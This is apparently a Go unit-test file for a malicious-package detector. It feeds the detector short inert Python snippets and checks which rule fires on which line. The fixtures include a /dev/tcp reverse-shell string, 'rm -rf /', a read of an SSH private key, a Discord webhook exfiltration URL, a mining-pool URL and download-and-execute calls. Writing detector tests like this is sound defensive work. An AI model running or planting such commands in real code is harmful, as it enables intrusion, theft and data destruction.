package guarddog3_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/malguard/malguard/baselines/guarddog3"
	"github.com/malguard/malguard/eval/detectortest"
)

// snippets are inert. Line 0 says that the rule must not fire.
var snippets = []struct {
	rule, file, source string
	line               int
}{
	{"capability-filesystem-browser", "m.py", "x = 1\np = '.mozilla/firefox'\n", 2},
	{"capability-filesystem-browser", "m.py", "import sqlite3\nopen('logins.json')\n", 1},
	{"capability-filesystem-browser", "m.py", "open('logins.json')\n", 0},
	{"capability-filesystem-delete", "m.py", "\nOS.Remove(p)\n", 2},
	{"capability-filesystem-delete", "m.py", "os.remove\n", 0},
	{"capability-filesystem-read", "m.py", "f = open('a', 'rb')\n", 1},
	{"capability-filesystem-read", "m.py", "f = open(a)\nf.readlines ()\n", 2},
	{"capability-filesystem-read", "m.py", "f = open(a, 'w')\nf.READ()\n", 0},
	{"capability-filesystem-write-executable", "m.py", "mode = 0o755\n", 1},
	{"capability-filesystem-write-executable", "m.py", "mode = 0o644\n", 0},
	{"capability-network-download", "m.py", "urllib.request.urlopen (u)\n", 1},
	{"capability-network-download", "m.py", "requests.post(u)\n", 0},
	{"capability-network-lolbas", "m.py", "# the docs\nx = 'curl -s example.com'\n", 2},
	{"capability-network-lolbas", "m.py", "os.system('certutil -f')\n", 1},
	{"capability-network-lolbas", "m.py", "x = 'certutil -f'\n", 0},
	{"capability-network-outbound", "m.py", "requests.get\n", 1},
	{"capability-network-outbound", "m.py", "Requests.get(u)\n", 0},
	{"capability-process-hooks", "pkg/setup.py", "setup(cmdclass={\n  'install': C})\n", 1},
	{"capability-process-hooks", "pkg/m.py", "setup(cmdclass={'install': C})\n", 0},
	{"capability-process-schedule", "m.py", "x = '/etc/cron.d/job'\n", 1},
	{"capability-process-schedule", "m.py", "x = '/etc/cron/job'\n", 0},
	{"capability-process-spawn", "m.py", "subprocess.run(x)\n", 1},
	{"capability-process-spawn", "m.py", "subprocess.PIPE\n", 0},
	{"capability-runtime-clipboard", "m.py", "pyperclip.paste()\n", 1},
	{"capability-runtime-clipboard", "m.py", "pyperclip.paste\n", 0},

	{"threat-filesystem-autostart", "m.py", "p = '~/.bashrc'\nopen(p)\n", 1},
	{"threat-filesystem-autostart", "m.py", "p = '~/.config/autostart/x'\n", 1},
	{"threat-filesystem-autostart", "m.py", "p = '~/.bashrc'\nurlopen(p)\n", 0},
	{"threat-filesystem-autostart", "m.py", "self.profile = open(p)\n", 0},
	{"threat-filesystem-destruction", "m.py", "x = 'rm -rf /'\n", 1},
	{"threat-filesystem-destruction", "m.py", "rmtree('build')\n", 0},
	{"threat-filesystem-read", "m.py", "p = home + '.ssh/id_rsa'\n", 1},
	{"threat-filesystem-read", "m.py", "p = 'process.environ'\n", 0},
	{"threat-network-dns-exfil", "m.py", "socket.gethostbyname(f'{x}.example.com')\n", 1},
	{"threat-network-dns-exfil", "m.py", "socket.gethostbyname('example.com')\n", 0},
	{"threat-network-exfil-messenger", "m.py", "u = 'https://discord.com/api/webhooks/1/x'\n", 1},
	{"threat-network-exfil-messenger", "m.py", "t = '12345678:" + strings.Repeat("x", 35) + "'\n", 1},
	{"threat-network-exfil-messenger", "m.py", "t = '12345678:" + strings.Repeat("x", 41) + "'\n", 0},
	{"threat-network-exfil-sysinfo", "m.py", "import socket\nh = socket.gethostname()\nrequests.post(u, h)\n", 2},
	{"threat-network-exfil-sysinfo", "m.py", "h = socket.gethostname()\nfetch(u, h)\n", 0},
	{"threat-network-exfiltration", "m.py", "u = 'http://192.0.2.1/x'\n", 1},
	{"threat-network-exfiltration", "m.py", "u = 'http://name.example.xyz/'\n", 1},
	{"threat-network-exfiltration", "m.py", "u = 'http://192.168.2.1/ http://10.0.0.1 http://127.0.0.1 http://172.20.1.1 http://169.254.1.1'\n", 0},
	{"threat-network-exfiltration", "m.py", "u = 'http://name.xyz.example/'\n", 0},
	{"threat-network-outbound-shady-links", "m.py", "u = 'https://paste.ee/r/x'\n", 1},
	{"threat-network-outbound-shady-links", "m.py", "u = 'https://paste.eek/r/x'\n", 0},
	{"threat-network-reverse-shell", "m.py", "x = 'bash -i >& /dev/tcp/192.0.2.1/1'\n", 1},
	{"threat-network-reverse-shell", "m.py", "socket.socket().connect(a)\npty.spawn('sh')\n", 1},
	{"threat-network-reverse-shell", "m.py", "socket.socket().connect(a)\n", 0},
	{"threat-process-cryptomining", "m.py", "x = 'stratum+tcp://pool.example.com'\n", 1},
	{"threat-process-cryptomining", "m.py", "miner, nonce = 1, 2\n", 0},
	{"threat-process-cryptomining", "m.py", "miner, nonce, hashrate = 1, 2, 3\n", 1},
	{"threat-process-download-exec", "m.py", "os.system('curl example.com -O')\n", 1},
	{"threat-process-download-exec", "m.py", "urllib.request.urlretrieve(u, p)\nsubprocess.call(p)\n", 1},
	{"threat-process-download-exec", "m.py", "requests.get(u)\nregex.exec(p)\n", 0},
	{"threat-process-hooks", "pkg/setup.py", "setup()\nx = 'sh -c id'\n", 1},
	{"threat-process-hooks", "setup.py", "setup()\nx = 'sh -c id'\n", 0},
	{"threat-process-injection-dll", "m.py", "k.VirtualAllocEx()\nk.WriteProcessMemory()\n", 2},
	{"threat-process-injection-dll", "m.py", "k.WriteProcessMemory()\n", 0},
	{"threat-process-memory", "m.py", "x = 'lsass'\n", 1},
	{"threat-process-memory", "m.py", "psutil.Process(1)\npassword = 1\n", 1},
	{"threat-process-memory", "m.py", "psutil.Process(1)\nk.OpenProcess()\n", 0},
	{"threat-process-powershell-encoded", "m.py", "x = 'powershell -EncodedCommand " + strings.Repeat("A", 20) + "'\n", 1},
	{"threat-process-powershell-encoded", "m.py", "x = 'powershell -WindowStyle Hidden'\n", 0},
	{"threat-process-spawn-silent", "m.py", "Popen(x, stdout=subprocess.DEVNULL,\n  stderr=subprocess.DEVNULL)\n", 1},
	{"threat-process-spawn-silent", "m.py", "Popen(x, stdout=subprocess.DEVNULL)\n", 0},
	{"threat-process-sysinfo", "m.py", "check_output([ 'whoami'])\n", 1},
	{"threat-process-sysinfo", "m.py", "result['hostname']\n", 0},
	{"threat-runtime-dynamic-loader", "m.py", "m = __import__(n)\nrequests.get(u)\n exec(m)\n", 1},
	{"threat-runtime-dynamic-loader", "m.py", "m = __import__(n)\nrequests.get(u)\nm.exec(m)\n", 0},
	{"threat-runtime-enumeration", "m.py", "x = '/proc/', 'ifconfig'\n", 1},
	{"threat-runtime-enumeration", "m.py", "x = '/proc/', 'IP Address'\n", 0},
	{"threat-runtime-environment-read", "m.py", "os.environ['MY_API_KEY']\n", 1},
	{"threat-runtime-environment-read", "m.py", "os.environ['PATH']\n", 0},
	{"threat-runtime-keylogging", "m.py", "keyboard.hook(f)\n", 1},
	{"threat-runtime-keylogging", "m.py", "import keyboard\n", 0},
	{"threat-runtime-obfuscation", "m.py", strings.Repeat("'"+strings.Repeat("A", 150)+"'\n", 3), 1},
	{"threat-runtime-obfuscation", "m.py", strings.Repeat("'"+strings.Repeat("A", 150)+"'\n", 2), 0},
	{"threat-runtime-obfuscation", "m.py", strings.Repeat(`\u0041`, 12) + "\n" + strings.Repeat("'a' + 'b'\n", 5), 1},
	{"threat-runtime-obfuscation", "m.py", strings.Repeat(`\u0041`, 11) + "\n" + strings.Repeat("'a' + 'b'\n", 5), 0},
	{"threat-runtime-obfuscation-api", "m.py", "getattr(b, 'exec')(s)\n", 1},
	{"threat-runtime-obfuscation-api", "m.py", "f = getattr(b, 'exec')\n", 0},
	{"threat-runtime-obfuscation-base64exec", "m.py", "x = base64 . b64decode (s)\n exec(x)\n", 1},
	{"threat-runtime-obfuscation-base64exec", "m.py", "x = base64.b64decode(s)\nm.eval(x)\n", 0},
	{"threat-runtime-obfuscation-chr", "m.py", "exec(''.join(map(chr, l)))\n", 1},
	{"threat-runtime-obfuscation-chr", "m.py", "x = ''.join(map(chr, l))\n", 0},
	{"threat-runtime-obfuscation-general", "m.py", "x = '" + strings.Repeat(`\x41`, 50) + "'\n", 1},
	{"threat-runtime-obfuscation-general", "m.py", "x = '" + strings.Repeat(`\x41`, 49) + "'\n", 0},
	{"threat-runtime-obfuscation-import-exec", "m.py", "exec(marshal.loads(x))\n", 1},
	{"threat-runtime-obfuscation-import-exec", "m.py", "x = marshal.loads(x)\n", 0},
	{"threat-runtime-obfuscation-pyarmor", "m.py", "from pyarmor_runtime_0 import x\n", 1},
	{"threat-runtime-obfuscation-pyarmor", "m.py", "From pyarmor_runtime_0 import x\n", 0},
	{"threat-runtime-obfuscation-steganography", "m.py", "s = lsb.reveal('a.png')\n exec(s)\n", 1},
	{"threat-runtime-obfuscation-steganography", "m.py", "s = lsb.reveal('a.png')\n", 0},
	{"threat-runtime-obfuscation-unicode", "m.py", "pаypal = 1\n", 1}, // the first a is Cyrillic
	{"threat-runtime-obfuscation-unicode", "m.py", "x = 'мир'\n", 0},
	{"threat-runtime-screencapture", "m.py", "ImageGrab.grab()\n", 1},
	{"threat-runtime-screencapture", "m.js", "ImageGrab.grab()\n", 0},
	{"threat-runtime-system-info", "m.py", "platform.system(), platform.node(), socket.gethostname()\n", 1},
	{"threat-runtime-system-info", "m.py", "platform.system(), platform.node(), socket.gethost()\n", 0},
	{"threat-setup-import-aliasing", "pkg/setup.py", "from os import system as s\n", 1},
	{"threat-setup-import-aliasing", "pkg/setup.py", "from os import system\n", 0},
	{"threat-setup-network-in-install", "setup.py", "requests.get(u)\nsetup()\n", 1},
	{"threat-setup-network-in-install", "m.py", "requests.get(u)\nsetup()\n", 0},
	{"threat-setup-suspicious-imports", "setup.py", "import urllib\nsetup()\n", 1},
	{"threat-setup-suspicious-imports", "setup.py", "import subprocess\nsetup()\n", 0},
}

func TestRules(t *testing.T) {
	d := guarddog3.New(guarddog3.Options{})
	fires, silent := map[string]bool{}, map[string]bool{}
	for _, s := range snippets {
		got, err := d.Detect(t.Context(), detectortest.Package(map[string]string{s.file: s.source}))
		require.NoError(t, err)
		line := 0
		for _, e := range got.Evidence {
			if e.Rule == s.rule && line == 0 {
				require.Equal(t, s.file, e.File)
				line = e.Line
			}
		}
		require.Equal(t, s.line, line, "%s on %q: %v", s.rule, s.source, got.Evidence)
		fires[s.rule] = fires[s.rule] || s.line > 0
		silent[s.rule] = silent[s.rule] || s.line == 0
	}
	ids := guarddog3.RuleIDs()
	require.Len(t, ids, 46)
	require.True(t, slices.IsSorted(ids))
	for _, id := range ids {
		require.True(t, fires[id], "no snippet on which %s fires", id)
		require.True(t, silent[id], "no snippet on which %s does not fire", id)
	}
}
